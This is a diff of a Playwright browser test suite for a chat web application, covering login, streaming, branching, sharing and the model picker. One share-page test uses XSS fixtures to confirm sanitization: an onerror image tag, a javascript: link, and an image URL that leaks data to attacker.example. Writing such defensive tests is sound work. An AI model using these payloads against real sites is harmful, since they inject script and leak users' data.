@@ -2,7 +2,6 @@
 
 from __future__ import annotations
 
-import json
 import re
 import time
 from typing import Any
@@ -10,7 +9,7 @@ from typing import Any
 import pytest
 from playwright.sync_api import expect
 
-from tests.browser.conftest import Server, build_app, shot
+from tests.browser.conftest import Server, build_app, goto, shot
 from tests.fake_upstream import behaviour
 
 pytestmark = pytest.mark.browser
@@ -63,6 +62,7 @@ def test_login_send_and_streamed_markdown(server: Server, open_page: Any) -> Non
     page.fill("#password", "correct horse battery staple")
     page.click("#login-form button[type=submit]")
     expect(page).to_have_url(server.url + "/")
+    expect(page.locator("body.ready")).to_have_count(1)
     expect(page.locator("#empty-state")).to_be_visible()
     expect(page.locator("#model-input")).to_have_value("gpt-5.4-mini")
     shot(page, "01-empty")
@@ -103,14 +103,14 @@ def test_login_send_and_streamed_markdown(server: Server, open_page: Any) -> Non
     # The reply on screen equals what the upstream sent, and a reload shows the same conversation.
     assert reply.locator(".msg-body pre code").inner_text().strip().startswith("def greet")
     page.reload()
-    expect(last_reply(page).locator(".codeblock pre code")).to_contain_text("return f\"Hello")
+    expect(last_reply(page).locator(".codeblock pre code")).to_contain_text('return f"Hello')
     expect(page.locator("article.msg-user")).to_have_count(1)
 
 
 def test_stop_with_button_and_escape(server: Server, open_page: Any) -> None:
     user = server.new_user("stopper")
     page, _ = open_page(user)
-    page.goto(server.url + "/")
+    goto(page, server.url + "/")
     server.upstream.reply = "word " * 400
     server.upstream.chunk_size = 5
     server.upstream.delta_delay = 0.05
@@ -137,7 +137,7 @@ def test_stop_with_button_and_escape(server: Server, open_page: Any) -> None:
 def test_regenerate_edit_branch_and_switch(server: Server, open_page: Any) -> None:
     user = server.new_user("brancher")
     page, _ = open_page(user)
-    page.goto(server.url + "/")
+    goto(page, server.url + "/")
     counter = iter(range(1, 100))
     server.upstream.reply = lambda body: f"Answer number {next(counter)}."
 
@@ -180,7 +180,9 @@ def test_regenerate_edit_branch_and_switch(server: Server, open_page: Any) -> No
     # Back to the first branch: its whole path (4 messages, newest leaf) comes back.
     first_user.get_by_role("button", name="Previous version").click()
     expect(page.locator("article.msg")).to_have_count(4)
-    expect(page.locator("article.msg-user").first.locator(".msg-body")).to_have_text("Tell me a number")
+    expect(page.locator("article.msg-user").first.locator(".msg-body")).to_have_text(
+        "Tell me a number"
+    )
     expect(last_reply(page).locator(".msg-body")).to_have_text("Answer number 3.")
     expect(page.locator("article.msg-user").first.locator(".sib-count")).to_have_text("1/2")
 
@@ -197,7 +199,7 @@ def test_list_filter_rename_delete(server: Server, open_page: Any) -> None:
         res = page.request.post(f"{server.url}/chat", data={"message": "hi", "chat_name": name})
         assert res.status == 200
         time.sleep(0.02)  # distinct last_update values for a stable order
-    page.goto(server.url + "/")
+    goto(page, server.url + "/")
     names = page.locator("#conv-list .conv-name")
     expect(names).to_have_text(["Gamma travel plans", "Beta recipes", "Alpha project notes"])
 
@@ -235,13 +237,16 @@ def test_list_filter_rename_delete(server: Server, open_page: Any) -> None:
     expect(names).to_have_count(2)
     expect(page.locator("#chat-title")).to_have_text("New chat")
     listed = page.request.get(f"{server.url}/get-all-conversations").json()["conversations"]
-    assert sorted(c["chat_name"] for c in listed) == ["Alpha project notes", "Beta: weeknight dinners"]
+    assert sorted(c["chat_name"] for c in listed) == [
+        "Alpha project notes",
+        "Beta: weeknight dinners",
+    ]
 
 
 def test_reload_during_answer_reattaches_and_completes(server: Server, open_page: Any) -> None:
     user = server.new_user("reloader")
     page, _ = open_page(user)
-    page.goto(server.url + "/")
+    goto(page, server.url + "/")
     words = [f"w{i:03d}" for i in range(120)]
     server.upstream.reply = " ".join(words)
     server.upstream.chunk_size = 5
@@ -262,7 +267,7 @@ def test_reload_during_answer_reattaches_and_completes(server: Server, open_page
 def test_upstream_error_shown_in_plain_words_with_retry(server: Server, open_page: Any) -> None:
     user = server.new_user("erring")
     page, _ = open_page(user)
-    page.goto(server.url + "/")
+    goto(page, server.url + "/")
     server.upstream.script(["500"])
     send(page, "Hello?")
     status = last_reply(page).locator(".msg-status")
@@ -291,7 +296,7 @@ def test_upstream_error_shown_in_plain_words_with_retry(server: Server, open_pag
 def test_mid_answer_reset_then_error_event(server: Server, open_page: Any) -> None:
     user = server.new_user("resetter")
     page, _ = open_page(user)
-    page.goto(server.url + "/")
+    goto(page, server.url + "/")
     server.upstream.reply = "Partial answer that will be cut off somewhere in the middle."
     server.upstream.script([behaviour("reset", after=3)])
     send(page, "Go")
@@ -306,17 +311,21 @@ def test_dark_theme_and_phone_width(server: Server, open_page: Any) -> None:
     user = server.new_user("darkphone")
     page, _ = open_page(user, color_scheme="dark")
     server.upstream.reply = MARKDOWN_REPLY
-    res = page.request.post(f"{server.url}/chat", data={"message": "Show me Markdown", "chat_name": "Dark mode"})
+    res = page.request.post(
+        f"{server.url}/chat", data={"message": "Show me Markdown", "chat_name": "Dark mode"}
+    )
     assert res.status == 200
-    page.goto(server.url + "/")
+    goto(page, server.url + "/")
     page.locator("#conv-list .conv-open").first.click()
     expect(last_reply(page).locator(".codeblock")).to_be_visible()
     bg = page.evaluate("getComputedStyle(document.body).backgroundColor")
     assert bg == "rgb(23, 24, 27)", bg
     shot(page, "06-dark")
 
-    phone, _ = open_page(user, viewport={"width": 390, "height": 844}, is_mobile=True, has_touch=True)
-    phone.goto(server.url + "/")
+    phone, _ = open_page(
+        user, viewport={"width": 390, "height": 844}, is_mobile=True, has_touch=True
+    )
+    goto(phone, server.url + "/")
     sidebar = phone.locator("#sidebar")
     expect(sidebar).to_be_hidden()
     toggle = phone.locator("#toggle-sidebar")
@@ -336,7 +345,7 @@ def test_dark_theme_and_phone_width(server: Server, open_page: Any) -> None:
 def test_keyboard_focus_is_visible_and_labelled(server: Server, open_page: Any) -> None:
     user = server.new_user("keys")
     page, _ = open_page(user)
-    page.goto(server.url + "/")
+    goto(page, server.url + "/")
     expect(page.locator("#composer-input")).to_be_focused()
     for sel in ("#composer-input", "#filter", "#model-input"):
         label = page.evaluate(
@@ -365,12 +374,14 @@ def test_unavailable_and_migrated_history(server: Server, open_page: Any) -> Non
         legacy={"thread_id": "thread_abc123", "history": "unavailable"},
         conversation_id="thread_abc123",
     )
-    broken = store.create(user, chat_name="Broken one", model="gpt-5.4-mini", provider="openai", instructions="")
+    broken = store.create(
+        user, chat_name="Broken one", model="gpt-5.4-mini", provider="openai", instructions=""
+    )
     path = server.data_dir / user / f"{broken.id}.json"
     path.write_text("{ this is not json")
 
     page, _ = open_page(user)
-    page.goto(server.url + "/")
+    goto(page, server.url + "/")
     expect(page.locator("#conv-list li")).to_have_count(2)
     page.locator("#conv-list .conv-open", has_text="Imported thread").click()
     expect(page.locator(".legacy-notice")).to_contain_text("earlier history is not available")
@@ -378,6 +389,7 @@ def test_unavailable_and_migrated_history(server: Server, open_page: Any) -> Non
 
     page.goto(f"{server.url}/#{broken.id}")
     page.reload()
+    expect(page.locator("body.ready")).to_have_count(1)
     expect(page.locator("#messages .notice-warn")).to_contain_text("history is not available")
     expect(page.locator("#composer-input")).to_be_disabled()
     expect(page.locator("#conv-list li.unavailable .conv-meta")).to_have_text("history unavailable")
@@ -389,7 +401,7 @@ def test_provider_missing_notice(tmp_path: Any, open_page: Any, serve_app: Any) 
     app.extensions["accounts"].create_user("nokey", "correct horse battery staple")
     url = serve_app(app)
     page, _ = open_page("nokey", base_url=url)
-    page.goto(url + "/")
+    goto(page, url + "/")
     notice = page.locator("#provider-missing")
     expect(notice).to_contain_text("OPENAI_API_KEY")
     expect(notice).to_contain_text("OPENAI_BASE_URL")
@@ -419,7 +431,11 @@ def test_share_page_renders_sanitized(server: Server, open_page: Any) -> None:
         {
             "chat_name": "Shared <b>chat</b>",
             "messages": [
-                {"role": "user", "text": "<img src=x onerror=window.__pwned=1> hi", "timestamp": 1767378354.1},
+                {
+                    "role": "user",
+                    "text": "<img src=x onerror=window.__pwned=1> hi",
+                    "timestamp": 1767378354.1,
+                },
                 {
                     "role": "assistant",
                     "text": "**Sure.** [x](javascript:window.__pwned=1) ![](https://attacker.example/leak?d=1)",
@@ -431,7 +447,9 @@ def test_share_page_renders_sanitized(server: Server, open_page: Any) -> None:
     page, _ = open_page()
     page.goto(f"{server.url}/share/{token}")
     expect(page.locator("h1")).to_have_text("Shared <b>chat</b>")
-    expect(page.locator(".msg-user .msg-body")).to_have_text("<img src=x onerror=window.__pwned=1> hi")
+    expect(page.locator(".msg-user .msg-body")).to_have_text(
+        "<img src=x onerror=window.__pwned=1> hi"
+    )
     expect(page.locator(".msg-assistant strong")).to_have_text("Sure.")
     expect(page.locator(".msg-assistant .blocked-image-note")).to_be_visible()
     assert page.locator("[onerror], a[href^='javascript']").count() == 0
@@ -443,11 +461,13 @@ def test_json_requests_carry_content_type_and_csrf_header(server: Server, open_p
     seen: list[dict[str, str]] = []
     page.on(
         "request",
-        lambda r: seen.append({"method": r.method, "url": r.url, **r.headers})
-        if r.method in ("POST", "PATCH", "PUT", "DELETE")
-        else None,
+        lambda r: (
+            seen.append({"method": r.method, "url": r.url, **r.headers})
+            if r.method in ("POST", "PATCH", "PUT", "DELETE")
+            else None
+        ),
     )
-    page.goto(server.url + "/")
+    goto(page, server.url + "/")
     send(page, "hello")
     wait_idle(page)
     posts = [r for r in seen if r["url"].endswith("/chat")]
@@ -457,3 +477,36 @@ def test_json_requests_carry_content_type_and_csrf_header(server: Server, open_p
     for r in posts:
         assert r["content-type"] == "application/json"
         assert r["x-csrf-token"] == token
+
+
+def test_model_picker_thinking_section_and_incomplete(server: Server, open_page: Any) -> None:
+    user = server.new_user("thinker")
+    page, _ = open_page(user)
+    goto(page, server.url + "/")
+    options = page.locator("#model-options option")
+    expect(options.first).to_have_attribute("value", "gpt-5.4-mini")
+
+    # "fake-reasoning" makes the fake upstream stream a reasoning summary before the text.
+    page.locator("#model-input").fill("fake-reasoning")
+    send(page, "Think first")
+    wait_idle(page)
+    assert server.upstream.responses_requests()[-1].body["model"] == "fake-reasoning"
+    thinking = last_reply(page).locator("details.thinking")
+    expect(thinking).to_be_visible()
+    expect(thinking.locator("summary")).to_have_text("Thinking")
+    expect(thinking).not_to_have_attribute("open", "")
+    thinking.locator("summary").click()
+    expect(thinking.locator(".thinking-body strong").first).to_have_text("Thinking it over")
+    expect(last_reply(page).locator(".msg-model")).to_have_text("fake-reasoning")
+    # An unknown model has no price: said so, never $0.
+    expect(last_reply(page).locator(".msg-usage")).to_contain_text("price unknown")
+    shot(page, "10-thinking")
+
+    # The model stays with the conversation after a reload.
+    page.reload()
+    expect(page.locator("#model-input")).to_have_value("fake-reasoning")
+
+    page.locator("#model-input").fill("fake-incomplete")
+    send(page, "Write a lot")
+    wait_idle(page)
+    expect(last_reply(page).locator(".msg-status")).to_contain_text("The answer stopped early")
